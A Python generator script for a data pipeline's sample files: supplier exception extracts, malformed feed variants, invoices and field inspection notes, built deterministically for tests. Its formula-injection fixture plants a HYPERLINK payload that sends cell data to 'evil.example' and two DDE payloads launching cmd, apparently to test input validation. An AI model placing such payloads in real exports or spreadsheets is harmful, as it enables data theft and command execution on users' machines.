"""Generate Conveyor's sample data: deterministic, so the committed files can be rebuilt byte for byte.

Run from the repository root::

    .venv/bin/python include/data/generate.py            # rewrite every file under include/data/
    .venv/bin/python include/data/generate.py --check    # exit 1 when a committed file differs

What it writes (see ``include/README.md`` for the contracts):

* ``supplier_exceptions/extract.csv`` (+ ``.jsonl`` and ``.parquet`` copies of the same rows):
  a good daily extract, one row per supplier exception, and ``extract_labels.csv`` with the
  category each note was written for (ambiguous notes are flagged);
* ``supplier_exceptions/malformed/``: one file per way a feed goes wrong;
* ``invoices/inbox/``: 60 invoices, 20 each as ``.txt``, ``.json`` and ``.csv``;
  ``invoices/vendors.csv``; ``invoices/malformed/`` (invoices whose fields fail validation);
  ``invoices/expected_fields.jsonl`` (the fields an extraction step should find in each file);
* ``inspection_notes/notes.csv``: a day of field inspection notes (three planted bad rows), and
  ``inspection_notes/training.csv``: labelled notes (``text,label``) the offline risk model learns.

The 10 MB-field variant is not committed (the repository keeps ``include/data`` small): tests and
benchmarks write it with :func:`write_huge_field` or :func:`write_supplier_rows`.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 20261127
#: The extract's "today": the newest exception is dated this day.
REFERENCE_DATE = date(2026, 11, 27)

SUPPLIER_COLUMNS = [
    "exception_id",
    "supplier_id",
    "supplier_name",
    "po_number",
    "exception_date",
    "amount",
    "currency",
    "quantity_ordered",
    "quantity_received",
    "notes",
]
CATEGORIES = ["late_delivery", "short_shipment", "price_variance", "quality", "documentation", "other"]


@dataclass(frozen=True)
class Supplier:
    supplier_id: str
    name: str
    currency: str
    goods: tuple[tuple[str, float], ...]  # (article, unit price)


SUPPLIERS: tuple[Supplier, ...] = (
    Supplier(
        "SUP-0042",
        "Nordwind Logistics GmbH",
        "EUR",
        (("euro pallets", 14.5), ("stretch film rolls", 22.9), ("shipping cartons 60x40", 1.85)),
    ),
    Supplier(
        "SUP-0107",
        "Müller Verpackungen GmbH",
        "EUR",
        (("corrugated boxes B-flute", 0.92), ("void-fill paper rolls", 38.0), ("tape rolls 50mm", 2.4)),
    ),
    Supplier(
        "SUP-0133",
        "Atlas Industrial Supply Ltd",
        "GBP",
        (("safety gloves (box of 100)", 18.75), ("hex bolts M12", 0.31), ("cable ties 300mm", 0.06)),
    ),
    Supplier(
        "SUP-0158",
        "Bergmann Stahlhandel AG",
        "EUR",
        (("steel sheet S355 2mm", 86.0), ("flat bar 40x5", 12.3), ("round tube 30x2", 17.6)),
    ),
    Supplier(
        "SUP-0171",
        "Helvetia Präzisionsteile AG",
        "CHF",
        (("turned shafts D12", 7.8), ("bearing housings", 41.2), ("precision bushings", 3.15)),
    ),
    Supplier(
        "SUP-0204",
        "Great Lakes Polymers Inc.",
        "USD",
        (("PP granulate 25kg bag", 48.0), ("ABS granulate 25kg bag", 71.5), ("masterbatch black 5kg", 39.9)),
    ),
    Supplier(
        "SUP-0236",
        "Costa Brava Components S.L.",
        "EUR",
        (("injection-moulded clips", 0.14), ("rubber seals 40mm", 0.55), ("plastic housings", 2.35)),
    ),
    Supplier(
        "SUP-0289",
        "Nordic Fasteners AB",
        "EUR",
        (("stainless screws A2 M6", 0.09), ("rivet nuts M8", 0.27), ("washers DIN 125", 0.02)),
    ),
    Supplier(
        "SUP-0312",
        "Pacific Rim Electronics Co.",
        "USD",
        (("PCB assemblies rev C", 23.4), ("power supplies 24V", 31.0), ("sensor modules", 12.75)),
    ),
    Supplier(
        "SUP-0345",
        "Lyon Chimie SAS",
        "EUR",
        (("degreaser 20L drums", 64.0), ("epoxy primer 5L", 58.5), ("solvent blend 200L", 420.0)),
    ),
    Supplier(
        "SUP-0377",
        "Kowalski Drewno Sp. z o.o.",
        "EUR",
        (("pine crates 80x60", 19.9), ("plywood sheets 18mm", 34.2), ("wooden dunnage", 4.1)),
    ),
    Supplier(
        "SUP-0401",
        "Thames Valley Packaging plc",
        "GBP",
        (("printed sleeves", 0.38), ("kraft mailers", 0.61), ("pallet labels (roll)", 12.0)),
    ),
)

# Note wording per category. The AI step classifies these; none starts with = + - @.
NOTES: dict[str, tuple[str, ...]] = {
    "late_delivery": (
        "Truck arrived {days} days late; line {line} waited for {article}",
        "Delivery scheduled for {planned} arrived on {actual}",
        "Carrier missed the agreed delivery window by {hours} hours",
        "Shipment held up at the port, arrived {days} days after the confirmed date",
        "Confirmed delivery date moved twice, goods finally arrived {days} days late",
        "Late delivery of {article}, we had to pay express freight for a partial batch",
    ),
    "short_shipment": (
        "{missing} cartons missing from delivery; packing list shows {ordered}",
        "Received {received} of {ordered} units of {article}, no backorder notice",
        "Pallet count short by {pallets} against the delivery note",
        "Only {received} {article} delivered, {missing} missing, no explanation from supplier",
        "Delivery incomplete: {missing} units of {article} not on the truck",
    ),
    "price_variance": (
        "Invoice unit price {new_price} {currency} vs PO price {old_price} {currency}",
        "Supplier applied a {pct}% surcharge that is not in the contract",
        "Freight charged separately although PO terms are DAP",
        "Price on invoice does not match the agreed price list for {article}",
        "Energy surcharge of {pct}% added to {article} without prior notice",
    ),
    "quality": (
        "{defect_count} units of {article} failed incoming inspection (scratches on surface)",
        "Moisture damage on {defect_count} cartons; contents unusable",
        "Wrong material grade delivered: certificate shows S235 instead of S355",
        "Dimensional check failed on {defect_count} parts, outside tolerance",
        "{defect_count} {article} broken on arrival, photos attached to the goods receipt",
        "Colour deviation on {article}, batch rejected by quality control",
    ),
    "documentation": (
        "Delivery note missing the PO reference",
        "Certificate of conformity not included with the shipment",
        "Customs invoice lists the wrong HS code for {article}",
        "Packing list does not match the labels on the pallets",
        "Safety data sheet for {article} is outdated (version from 2019)",
    ),
    "other": (
        "Driver refused to unload without forklift assistance",
        "Supplier contact changed and nobody confirmed our order",
        "Delivered to the wrong dock, goods rerouted internally",
        "Supplier asks to change payment terms to 15 days",
        "Supplier announced a plant shutdown over the holidays, please plan ahead",
    ),
}
# Notes that honestly fit two categories (or none well): the AI step should route these to people.
AMBIGUOUS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("Delivery late and {defect_count} cartons damaged in transit", ("late_delivery", "quality")),
    ("Invoice total higher than expected, quantities also unclear", ("price_variance", "short_shipment")),
    (
        "Paperwork incomplete so the goods were held at the gate for 2 days",
        ("documentation", "late_delivery"),
    ),
    (
        "Short {missing} units, supplier says the rest will follow at a new price",
        ("short_shipment", "price_variance"),
    ),
    ("Goods arrived but something seems wrong, please check", ("other", "quality")),
    ("Problem with the last delivery of {article}, see email from warehouse", ("other", "quality")),
)


def _money(value: float) -> str:
    return f"{value:.2f}"


def supplier_rows(
    count: int = 480, *, seed: int = SEED, reference: date = REFERENCE_DATE, start_number: int = 1
) -> Iterator[tuple[dict[str, str], str, bool]]:
    """Rows of a good supplier exception extract: (row, intended category, ambiguous)."""
    rng = random.Random(seed)
    days_back = sorted((rng.randint(0, 59) for _ in range(count)), reverse=True)
    for n in range(count):
        supplier = rng.choice(SUPPLIERS)
        article, unit_price = rng.choice(supplier.goods)
        ordered = rng.choice([rng.randint(5, 60), rng.randint(50, 500), rng.randint(500, 5000)])
        received = ordered
        exception_date = reference - timedelta(days=days_back[n])
        ambiguous = rng.random() < 0.06
        if ambiguous:
            template, categories = rng.choice(AMBIGUOUS)
            category = categories[0]
        else:
            category = rng.choices(CATEGORIES, weights=[26, 22, 16, 18, 11, 7])[0]
            template = rng.choice(NOTES[category])
        missing = max(1, int(ordered * rng.uniform(0.03, 0.35)))
        defect_count = max(2, int(ordered * rng.uniform(0.01, 0.2)))
        pct = rng.choice([3, 4.5, 5, 7.5, 8, 12])
        if category == "short_shipment" or "{missing}" in template:
            received = ordered - missing
            amount = missing * unit_price
        elif category == "price_variance":
            amount = ordered * unit_price * pct / 100
        elif category == "quality":
            amount = defect_count * unit_price
        elif category == "late_delivery":
            amount = rng.uniform(180, 12_500)
        elif category == "documentation":
            amount = rng.uniform(45, 480)
        else:
            amount = rng.uniform(90, 2_800)
        amount = max(amount, 5.0 + rng.random() * 20)
        planned = exception_date - timedelta(days=rng.randint(2, 9))
        notes = template.format(
            days=rng.randint(2, 12),
            line=rng.randint(1, 6),
            article=article,
            planned=planned.isoformat(),
            actual=exception_date.isoformat(),
            hours=rng.randint(3, 30),
            missing=missing,
            ordered=ordered,
            received=received,
            pallets=rng.randint(1, 4),
            new_price=_money(unit_price * (1 + pct / 100)),
            old_price=_money(unit_price),
            currency=supplier.currency,
            pct=pct,
            defect_count=defect_count,
        )
        row = {
            "exception_id": f"EX-{reference.year}-{start_number + n:06d}",
            "supplier_id": supplier.supplier_id,
            "supplier_name": supplier.name,
            "po_number": f"PO-{rng.randint(100_000, 109_999)}",
            "exception_date": exception_date.isoformat(),
            "amount": _money(amount),
            "currency": supplier.currency,
            "quantity_ordered": str(ordered),
            "quantity_received": str(received),
            "notes": notes,
        }
        yield row, category, ambiguous


def csv_text(rows: Sequence[dict[str, str]], columns: Sequence[str], delimiter: str = ",") -> str:
    buf = io.StringIO()
    writer = csv.DictWriter(
        buf, fieldnames=list(columns), delimiter=delimiter, lineterminator="\n", extrasaction="ignore"
    )
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue()


def write_supplier_rows(path: Path, count: int, *, seed: int = SEED, chunk: int = 50_000) -> Path:
    """Write a good extract of ``count`` rows (any size, streamed): what the benchmark reads."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=SUPPLIER_COLUMNS, lineterminator="\n")
        writer.writeheader()
        done = 0
        while done < count:
            take = min(chunk, count - done)
            writer.writerows(r for r, _, _ in supplier_rows(take, seed=seed + done, start_number=done + 1))
            done += take
    return path


def write_huge_field(path: Path, size: int = 10 * 1024 * 1024) -> Path:
    """The good extract with one ``notes`` cell of ``size`` characters (default 10 MB) in row 7."""
    rows = [r for r, _, _ in supplier_rows()]
    rows[6] = dict(rows[6], notes="Pallet labels unreadable. " + "x" * (size - 26))
    path.write_text(csv_text(rows, SUPPLIER_COLUMNS), encoding="utf-8")
    return path


# -- the malformed catalogue ----------------------------------------------------------------------


def malformed_variants(rows: list[dict[str, str]]) -> dict[str, bytes]:
    """File name -> bytes, one file per way a supplier feed goes wrong (each from the good rows)."""
    good = csv_text(rows, SUPPLIER_COLUMNS)
    out: dict[str, bytes] = {}

    renamed = [c if c != "supplier_id" else "vendor_id" for c in SUPPLIER_COLUMNS]
    out["renamed_column.csv"] = csv_text(
        [{("vendor_id" if k == "supplier_id" else k): v for k, v in r.items()} for r in rows], renamed
    ).encode()
    out["missing_column.csv"] = csv_text(rows, [c for c in SUPPLIER_COLUMNS if c != "po_number"]).encode()
    out["empty.csv"] = b""
    out["header_only.csv"] = (",".join(SUPPLIER_COLUMNS) + "\n").encode()
    out["wrong_delimiter.csv"] = csv_text(rows, SUPPLIER_COLUMNS, delimiter=";").encode()
    # An export from a legacy system: Latin-1, so 'ü' and 'ä' become single non-UTF-8 bytes.
    out["non_utf8.csv"] = good.encode("latin-1")
    out["bom.csv"] = b"\xef\xbb\xbf" + good.encode()
    out["date_format.csv"] = csv_text(
        [dict(r, exception_date=date.fromisoformat(r["exception_date"]).strftime("%d/%m/%Y")) for r in rows],
        SUPPLIER_COLUMNS,
    ).encode()
    bad_amounts = [dict(r) for r in rows]
    bad_amounts[10]["amount"] = "-1250.40"  # a credit note booked as an exception
    bad_amounts[55]["amount"] = "-0.01"
    bad_amounts[120]["amount"] = "125040000.00"  # decimal separator lost upstream
    bad_amounts[301]["amount"] = "99999999999.99"
    out["bad_amounts.csv"] = csv_text(bad_amounts, SUPPLIER_COLUMNS).encode()
    duplicates = list(rows)
    duplicates.insert(40, dict(rows[12]))  # the same row sent twice
    duplicates.insert(
        200, dict(rows[150], amount="999.00", notes="Corrected amount after call with supplier")
    )
    out["duplicate_ids.csv"] = csv_text(duplicates, SUPPLIER_COLUMNS).encode()
    injected = [dict(r) for r in rows]
    injected[3]["notes"] = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the delivery photos")'
    injected[77]["supplier_name"] = "@SUM(1+9)*cmd|' /C calc'!A0"
    injected[140]["notes"] = "+cmd|' /C notepad'!A0"
    out["formula_injection.csv"] = csv_text(injected, SUPPLIER_COLUMNS).encode()
    extra_cols = [*SUPPLIER_COLUMNS, "buyer", "plant_code"]
    rng = random.Random(SEED + 1)
    out["extra_columns.csv"] = csv_text(
        [
            dict(
                r,
                buyer=rng.choice(["A. Schmidt", "J. Doe", "M. Rossi"]),
                plant_code=rng.choice(["HAM1", "MUC2"]),
            )
            for r in rows
        ],
        extra_cols,
    ).encode()
    # Yesterday's extract sent again a month later: every row valid, the newest one 30 days old.
    out["stale.csv"] = csv_text(
        [
            dict(r, exception_date=(date.fromisoformat(r["exception_date"]) - timedelta(days=30)).isoformat())
            for r in rows
        ],
        SUPPLIER_COLUMNS,
    ).encode()
    # The export stopped early: only the newest 12 rows arrived (each of them valid).
    out["truncated.csv"] = csv_text(rows[-12:], SUPPLIER_COLUMNS).encode()
    # A note with an unquoted comma: the row has one field too many, the file cannot be parsed.
    lines = good.splitlines(keepends=True)
    lines[58] = lines[58].rstrip("\n") + ",see attached\n"
    out["ragged_rows.csv"] = "".join(lines).encode()
    return out


# -- invoices -------------------------------------------------------------------------------------

VENDORS: tuple[tuple[str, str, str, str], ...] = (
    # vendor_id, name, default category, currency
    ("V-1001", "Acme Office Supplies GmbH", "office_supplies", "EUR"),
    ("V-1002", "Brightline IT Hardware B.V.", "it_hardware", "EUR"),
    ("V-1003", "CloudNine Software Ltd", "software", "GBP"),
    ("V-1004", "Nordwind Logistics GmbH", "logistics", "EUR"),
    ("V-1005", "FacilityPro Gebäudeservice GmbH", "facilities", "EUR"),
    ("V-1006", "Keller & Partner Unternehmensberatung", "professional_services", "EUR"),
    ("V-1007", "Bergmann Stahlhandel AG", "raw_materials", "EUR"),
    ("V-1008", "TravelDesk Europe GmbH", "travel", "EUR"),
    ("V-1009", "Paperworks Direct Ltd", "office_supplies", "GBP"),
    ("V-1010", "Rhein Chemie Handel GmbH", "raw_materials", "EUR"),
    ("V-1011", "Summit Cloud Services Inc.", "software", "USD"),
)
ARTICLES: dict[str, tuple[tuple[str, float, int], ...]] = {  # description, unit price, max quantity
    "office_supplies": (
        ("Printer paper A4", 24.5, 40),
        ("Toner cartridge", 89.9, 6),
        ("Ballpoint pens (box)", 7.2, 20),
        ("Sticky notes (pack)", 4.35, 30),
        ("Archive boxes", 2.9, 50),
    ),
    "it_hardware": (
        ("Laptop 14in", 1149.0, 5),
        ("Docking station", 219.0, 8),
        ("27in monitor", 289.0, 8),
        ("USB-C headset", 79.0, 12),
        ("SSD 2TB", 149.0, 10),
    ),
    "software": (
        ("CAD seat annual licence", 1890.0, 4),
        ("Office suite user/month", 11.7, 120),
        ("Backup storage TB/month", 21.0, 40),
        ("Support plan (quarter)", 950.0, 1),
    ),
    "logistics": (
        ("Pallet transport Hamburg-Munich", 385.0, 6),
        ("Express parcel", 18.9, 40),
        ("Warehouse storage (pallet/week)", 6.5, 200),
        ("Customs clearance", 145.0, 3),
    ),
    "facilities": (
        ("Office cleaning (month)", 2150.0, 1),
        ("Window cleaning", 640.0, 1),
        ("HVAC maintenance visit", 480.0, 2),
        ("Waste disposal container", 210.0, 4),
    ),
    "professional_services": (
        ("Consulting day", 1400.0, 10),
        ("Workshop facilitation", 2600.0, 2),
        ("Travel expenses (flat)", 350.0, 3),
    ),
    "raw_materials": (
        ("Steel sheet S355 2mm", 86.0, 120),
        ("Aluminium profile 6m", 42.5, 80),
        ("Isopropanol 200L drum", 520.0, 4),
        ("Epoxy resin 25kg", 310.0, 6),
    ),
    "travel": (
        ("Rail ticket Hamburg-Berlin", 89.9, 6),
        ("Hotel night Munich", 149.0, 8),
        ("Flight FRA-LHR", 312.0, 4),
        ("Rental car day", 68.0, 6),
    ),
}


def invoices(count: int = 60, *, seed: int = SEED + 2) -> list[dict]:
    """The good inbox: extracted-field dicts (``file`` is the file name the invoice is written to)."""
    rng = random.Random(seed)
    fmts = ["txt", "json", "csv"]
    out = []
    for n in range(count):
        vendor_id, vendor, category, currency = (
            VENDORS[n % len(VENDORS)] if n < len(VENDORS) else rng.choice(VENDORS)
        )
        invoice_date = REFERENCE_DATE - timedelta(days=rng.randint(0, 55))
        due_date = invoice_date + timedelta(days=rng.choice([14, 30, 30, 45]))
        lines = []
        for description, price, max_qty in rng.sample(
            ARTICLES[category], k=rng.randint(1, min(3, len(ARTICLES[category])))
        ):
            quantity = rng.randint(1, max_qty)
            lines.append(
                {
                    "description": description,
                    "quantity": quantity,
                    "unit_price": price,
                    "amount": round(quantity * price, 2),
                }
            )
        number = f"{vendor_id.replace('V-', 'INV-')}-{2026}-{rng.randint(100, 9999):05d}"
        total = round(sum(li["amount"] for li in lines), 2)
        fields = {
            "vendor": vendor,
            "vendor_id": vendor_id,
            "invoice_number": number,
            "invoice_date": invoice_date.isoformat(),
            "due_date": due_date.isoformat(),
            "currency": currency,
            "line_items": lines,
            "total": total,
        }
        fmt = fmts[n % 3]
        out.append({"file": f"{number}.{fmt}", **fields})
    return out


def render_invoice(fields: dict, fmt: str) -> str:
    if fmt == "json":
        body = {k: v for k, v in fields.items() if k != "file"}
        return json.dumps(body, indent=2, ensure_ascii=False) + "\n"
    if fmt == "csv":
        rows = [
            {
                "invoice_number": fields["invoice_number"],
                "vendor": fields["vendor"],
                "vendor_id": fields["vendor_id"],
                "invoice_date": fields["invoice_date"],
                "due_date": fields["due_date"],
                "currency": fields["currency"],
                "description": li["description"],
                "quantity": li["quantity"],
                "unit_price": f"{li['unit_price']:.2f}",
                "amount": f"{li['amount']:.2f}",
            }
            for li in fields["line_items"]
        ]
        return csv_text(
            rows,
            [
                "invoice_number",
                "vendor",
                "vendor_id",
                "invoice_date",
                "due_date",
                "currency",
                "description",
                "quantity",
                "unit_price",
                "amount",
            ],
        )
    lines = [
        "INVOICE",
        f"Vendor: {fields['vendor']}",
        f"Vendor ID: {fields['vendor_id']}",
        f"Invoice Number: {fields['invoice_number']}",
        f"Invoice Date: {fields['invoice_date']}",
        f"Due Date: {fields['due_date']}",
        f"Currency: {fields['currency']}",
        "",
        "Line items:",
    ]
    lines += [
        f"- {li['description']} | {li['quantity']} x {li['unit_price']:.2f} = {li['amount']:.2f}"
        for li in fields["line_items"]
    ]
    total = fields.get("total")
    lines += ["", f"Total: {total:.2f}" if total is not None else "Total:"]
    return "\n".join(lines) + "\n"


def malformed_invoices(good: list[dict]) -> list[dict]:
    """Invoices whose extracted fields must fail the invoice gate, one problem each.

    Each is a copy of a good invoice with a new invoice number of its own (so the only problem
    is the one its file name says).
    """
    out = []
    good = [
        dict(json.loads(json.dumps(g)), invoice_number=g["invoice_number"][:-5] + f"9{n:04d}")
        for n, g in enumerate(good[:5], start=1)
    ]
    a = json.loads(json.dumps(good[0]))
    a["total"] = round(a["total"] + 100.0, 2)
    a["file"] = "total_mismatch.txt"
    out.append(a)
    b = json.loads(json.dumps(good[1]))
    b.update(vendor="Unknown Trading Co.", vendor_id="V-9999", file="unknown_vendor.json")
    out.append(b)
    c = json.loads(json.dumps(good[2]))
    c.update(
        due_date=(date.fromisoformat(c["invoice_date"]) - timedelta(days=10)).isoformat(),
        file="due_before_invoice.csv",
    )
    out.append(c)
    d = json.loads(json.dumps(good[3]))
    d.update(
        invoice_date=(REFERENCE_DATE + timedelta(days=200)).isoformat(),
        due_date=(REFERENCE_DATE + timedelta(days=230)).isoformat(),
        file="future_date.json",
    )
    out.append(d)
    e = json.loads(json.dumps(good[4]))
    e["line_items"][0]["amount"] = round(e["line_items"][0]["amount"] * 10, 2)
    e["total"] = round(sum(li["amount"] for li in e["line_items"]), 2)
    e["file"] = "line_arithmetic.txt"
    out.append(e)
    return out


# -- writing --------------------------------------------------------------------------------------


def build() -> dict[Path, bytes]:
    """Every generated file (path relative to include/data) -> its bytes."""
    files: dict[Path, bytes] = {}
    generated = list(supplier_rows())
    rows = [r for r, _, _ in generated]
    sup = Path("supplier_exceptions")
    files[sup / "extract.csv"] = csv_text(rows, SUPPLIER_COLUMNS).encode()
    files[sup / "extract.jsonl"] = "".join(
        json.dumps(_typed_supplier_row(r), ensure_ascii=False) + "\n" for r in rows
    ).encode()
    files[sup / "extract.parquet"] = _parquet_bytes([_typed_supplier_row(r) for r in rows])
    files[sup / "extract_labels.csv"] = csv_text(
        [
            {"exception_id": r["exception_id"], "category": c, "ambiguous": str(a).lower()}
            for r, c, a in generated
        ],
        ["exception_id", "category", "ambiguous"],
    ).encode()
    for name, data in malformed_variants(rows).items():
        files[sup / "malformed" / name] = data

    inv = Path("invoices")
    files[inv / "vendors.csv"] = csv_text(
        [{"vendor_id": v, "vendor_name": n, "default_category": c} for v, n, c, _ in VENDORS],
        ["vendor_id", "vendor_name", "default_category"],
    ).encode()
    good = invoices()
    bad = malformed_invoices(good)
    expected = []
    for folder, batch in (("inbox", good), ("malformed", bad)):
        for fields in batch:
            fmt = fields["file"].rsplit(".", 1)[1]
            files[inv / folder / fields["file"]] = render_invoice(fields, fmt).encode()
            expected.append(
                {
                    "path": f"{folder}/{fields['file']}",
                    "business_key": fields["file"].rsplit(".", 1)[0],
                    "fields": {k: v for k, v in fields.items() if k != "file"},
                }
            )
    files[inv / "expected_fields.jsonl"] = "".join(
        json.dumps(e, ensure_ascii=False, sort_keys=True) + "\n" for e in expected
    ).encode()

    ins = Path("inspection_notes")
    files[ins / "notes.csv"] = csv_text(inspection_notes(), INSPECTION_COLUMNS).encode()
    files[ins / "training.csv"] = csv_text(inspection_training(), ["text", "label"]).encode()
    return files


# -- field inspection notes ---------------------------------------------------------------------

INSPECTION_COLUMNS = ["inspection_id", "site_id", "site_name", "inspector", "inspected_on", "note"]
INSPECTION_SITES = [
    ("SITE-011", "Hafen Nord pumping station"), ("SITE-014", "Riverside substation"),
    ("SITE-023", "Kesselhaus West"), ("SITE-027", "Tank farm B"), ("SITE-031", "Logistics yard 4"),
    ("SITE-038", "Water treatment plant Ost"), ("SITE-042", "Compressor hall 2"), ("SITE-055", "Wind park Sued"),
]
INSPECTORS = ["A. Keller", "M. Novak", "J. Brandt", "S. Ivanova", "T. Okafor", "L. Moreau"]
#: risk -> findings an inspector writes; a note is one or two of them plus where it was seen.
FINDINGS = {
    "high": [
        "corroded anchor bolts at the tower base, two of eight bolts loose",
        "gas smell near valve {n}, detector reading above the alarm limit",
        "guard rail missing on platform level {n}, fall hazard",
        "crack in the weld seam of pressure vessel {n}",
        "fire exit blocked by pallets and the extinguisher seal broken",
        "exposed live cable in junction box {n}, cover missing",
        "hydraulic oil leaking from press {n} onto the walkway",
        "lifting sling frayed and still in use on crane {n}",
    ],
    "medium": [
        "surface rust on the handrails of stair {n}",
        "emergency lighting battery at {n} percent, below the service level",
        "labels missing on three drums in chemical store {n}",
        "drain {n} partly blocked, standing water after rain",
        "first-aid kit incomplete, burn gel expired",
        "fence panel {n} bent, gap of about a hand",
        "vibration on pump {n} higher than last quarter",
        "eyewash station {n} not flushed this month",
    ],
    "low": [
        "routine round, all checks passed",
        "housekeeping good, some litter near gate {n}",
        "safety signage faded but legible",
        "all extinguishers present and tagged",
        "walkways clear and dry",
        "logbook complete and signed",
        "lighting working in all bays",
        "no findings at panel {n}",
    ],
}


def _note(rng: random.Random, risk: str) -> str:
    picks = rng.sample(FINDINGS[risk], 2 if rng.random() < 0.4 else 1)
    text = "; ".join(p.format(n=rng.randint(2, 19)) for p in picks)
    return text[0].upper() + text[1:] + "."


def inspection_training(*, seed: int = SEED + 5) -> list[dict[str, str]]:
    """Labelled notes for the offline risk model: 60 per risk level."""
    rng = random.Random(seed)
    return [{"text": _note(rng, risk), "label": risk} for risk in ("high", "medium", "low") for _ in range(60)]


def inspection_notes(count: int = 60, *, seed: int = SEED + 6) -> list[dict[str, str]]:
    """A day of inspection notes, newest on REFERENCE_DATE; the last three rows are planted bad ones."""
    rng = random.Random(seed)
    rows = []
    for n in range(1, count + 1):
        site_id, site_name = rng.choice(INSPECTION_SITES)
        risk = rng.choices(["low", "medium", "high"], weights=[5, 3, 2])[0]
        note = _note(rng, risk)
        if n % 9 == 0:  # an inspector mixing an all-clear with a finding: doubtful, for a person
            note = f"{_note(rng, 'low')[:-1]}, but {_note(rng, 'medium').lower()}"
        rows.append({
            "inspection_id": f"INS-{REFERENCE_DATE:%Y}-{n:05d}", "site_id": site_id, "site_name": site_name,
            "inspector": rng.choice(INSPECTORS), "inspected_on": (REFERENCE_DATE - timedelta(days=n % 2)).isoformat(),
            "note": note,
        })
    rows[-3]["note"] = ""  # nothing to summarize
    rows[-2]["site_id"] = "SITE-9"  # not a site id
    rows[-1]["inspected_on"] = (REFERENCE_DATE + timedelta(days=40)).isoformat()  # in the future
    return rows


def _typed_supplier_row(row: dict[str, str]) -> dict:
    return dict(
        row,
        amount=float(row["amount"]),
        quantity_ordered=int(row["quantity_ordered"]),
        quantity_received=int(row["quantity_received"]),
    )


def _parquet_bytes(rows: list[dict]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_pylist(rows)
    sink = io.BytesIO()
    # No statistics timestamps or writer version drift: the same rows give the same bytes.
    pq.write_table(table, sink, compression="zstd", write_statistics=False, store_schema=False)
    return sink.getvalue()


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--check", action="store_true", help="compare with the committed files, write nothing"
    )
    parser.add_argument("--out", type=Path, default=HERE, help="where to write (default: include/data)")
    args = parser.parse_args(argv)
    files = build()
    differing = []
    for rel, data in sorted(files.items()):
        target = args.out / rel
        if args.check:
            if not target.exists() or target.read_bytes() != data:
                differing.append(str(rel))
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    if args.check:
        for rel in differing:
            print(f"differs: {rel}")
        return 1 if differing else 0
    total = sum(len(d) for d in files.values())
    print(f"wrote {len(files)} files, {total / 1024:.0f} KiB, under {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
